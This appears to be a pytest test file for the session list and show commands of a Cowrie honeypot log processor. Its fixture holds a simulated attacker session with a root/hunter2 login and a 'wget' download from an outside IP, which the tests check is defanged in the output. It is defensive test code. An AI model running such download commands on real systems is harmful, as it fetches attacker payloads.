"""`cowrieprocessor sessions list` and `show`, as they are called."""

from __future__ import annotations

from pathlib import Path

import pytest
from sqlalchemy import Engine

from cowrieprocessor.db.engine import write_transaction
from cowrieprocessor.loader.bulk import BulkLoader
from tests.unit.reporting.program import Program
from tests.unit.reporting.scene import add_events, add_file, add_session, at, sha


@pytest.fixture
def program(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Program:
    """The program as a user calls it."""
    return Program(monkeypatch, capsys)


@pytest.fixture
def db(engine: Engine, db_url: str) -> str:
    """A database with three sessions, one of which did something."""
    with write_transaction(engine) as connection:
        add_session(connection, "busy", at(2), commands={"uname -a": 1}, vt_flagged=True, source_files=["/logs/c.json"])
        add_session(connection, "failed", at(1), login_success=False, sensor="office", src_ip="10.0.0.9")
        add_session(connection, "bare", None, attributes=False, commands={"only counted": 3})
        add_file(connection, "busy", sha(1), at(2), filename="/tmp/x", vt_malicious=True, file_size=12)
        add_events(
            connection,
            [
                {"session": "busy", "eventid": f"cowrie.{name}", "timestamp": f"2026-11-21T02:00:0{n}.5Z", **fields}
                for n, (name, fields) in enumerate(
                    [
                        ("session.connect", {"src_ip": "203.0.113.5", "protocol": "ssh"}),
                        ("login.success", {"username": "root", "password": "hunter2"}),
                        ("command.input", {"input": "wget http://u:pw@198.51.100.7/x"}),
                        ("command.input", {"input": None, "input_safe": "cd /tmp [SC] ls"}),
                        ("session.file_download", {"destfile": "/tmp/x", "shasum": sha(1)}),
                    ]
                )
            ],
        )
    return db_url


def test_list_shows_the_latest_first(db: str, program: Program) -> None:
    """Each session is a line with its user (in brackets if turned away), files and flags; undated ones come last."""
    outcome = program("sessions", "list", "--db", db)
    assert (outcome.code, outcome.err) == (0, "")
    busy, failed, bare = outcome.out.splitlines()[2:]
    assert busy.split() == ["busy", "2026-11-21", "02:00", "203.0.113.5", "root", "1", "1", "lab", "file"]
    assert "(root)" in failed
    assert bare.split() == ["bare", "3", "0", "lab"]


@pytest.mark.parametrize(
    ("arguments", "sessions"),
    [
        (("--since", "2026-11-21T02:00"), ["busy"]),
        (("--until", "2026-11-21T02:00"), ["failed"]),
        (("--src-ip", "10.0.0.9"), ["failed"]),
        (("--sensor", "office"), ["failed"]),
        (("--with-files",), ["busy"]),
        (("--flagged",), ["busy"]),
        (("--limit", "1", "--after", "2026-11-21T02:00:00.000000Z,busy"), ["failed"]),
    ],
)
def test_list_takes_its_filters(db: str, program: Program, arguments: tuple[str, ...], sessions: list[str]) -> None:
    """Every filter and the cursor reach the query."""
    document = program("sessions", "list", "--db", db, "--json", *arguments).document
    assert sessions == [session["session_id"] for session in document["sessions"]]


def test_show_prints_a_session_in_order(db: str, program: Program) -> None:
    """A session is shown with where it came from, its files, and its events one after the other, links defanged."""
    outcome = program("sessions", "show", "busy", "--db", db)
    assert (outcome.code, outcome.err) == (0, "")
    expected = [
        "root  (got in)",
        "/logs/c.json",
        "malicious",
        "root / hunter2",
        "wget hxxp://***@198[.]51[.]100[.]7/x",
        "cd /tmp [SC] ls",
        f"/tmp/x  SHA-256 {sha(1)[:12]}",
    ]
    positions = [outcome.out.index(text) for text in expected]
    assert sorted(positions) == positions


def test_show_cuts_long_sessions_and_says_so(db: str, program: Program) -> None:
    """Beyond the limit the text says how many events follow, and how to see them."""
    outcome = program("sessions", "show", "busy", "--db", db, "--limit", "2")
    assert "root / hunter2" in outcome.out
    assert "wget" not in outcome.out
    assert "and 3 more events: --limit 5 shows all" in outcome.out


def test_show_without_events_shows_the_commands(db: str, program: Program) -> None:
    """A session whose events were pruned still has its commands, and the text says that the events are gone."""
    outcome = program("sessions", "show", "bare", "--db", db)
    assert "only counted" in outcome.out
    assert "no longer in the database" in outcome.out


def test_show_as_json_has_the_events_as_logged(db: str, program: Program) -> None:
    """The JSON has every field of every event, and URLs as they were."""
    document = program("sessions", "show", "busy", "--db", db, "--json").document
    assert document["events"][2]["fields"]["input"] == "wget http://u:pw@198.51.100.7/x"
    assert (
        document["events"][0]["at"],
        document["events_total"],
        document["summary"]["session_id"],
    ) == ("2026-11-21T02:00:00.500000Z", 5, "busy")


def test_a_session_that_is_not_there_ends_with_1(db: str, program: Program) -> None:
    """An unknown session ends with 1 and one message."""
    outcome = program("sessions", "show", "nobody\x1b[31m", "--db", db)
    assert (outcome.code, outcome.out) == (1, "")
    assert outcome.err.startswith("error: no session nobody\\x1b[31m in this database")


def test_an_empty_list_is_reported(db: str, program: Program) -> None:
    """A list in which nothing fits says so and ends with 0."""
    outcome = program("sessions", "list", "--db", db, "--src-ip", "192.0.2.1")
    assert (outcome.code, outcome.out) == (0, "No sessions match.\n")


def test_a_deeply_nested_event_is_shown(engine: Engine, db_url: str, program: Program, tmp_path: Path) -> None:
    """An event nested as deep as may be stored ends neither the text nor the JSON in an error; nor do odd dates."""
    path = tmp_path / "cowrie.json"
    nested = "[" * 998 + "]" * 998
    base = '"session":"deep00000001","timestamp":"0001-01-01T00:00:00.000000Z","sensor":"p"'
    path.write_text(
        f'{{"eventid":"cowrie.x",{base},"deep":{nested}}}\n'
        f'{{"eventid":"cowrie.session.file_download",{base},"shasum":"{"ab" * 32}","deep":{nested}}}\n'
    )
    BulkLoader(engine).load([path])
    for command in (("sessions", "show", "deep00000001"), ("files", "show", "ab" * 32)):
        text, document = program(*command, "--db", db_url), program(*command, "--db", db_url, "--json")
        assert (text.code, document.code, "0001-01-01 00:00:00" in text.out) == (0, 0, True)
        assert document.document
    listed = program("sessions", "list", "--db", db_url)
    assert "deep00000001  0001-01-01 00:00" in listed.out
    assert program("report", "daily", "--db", db_url).code == 0
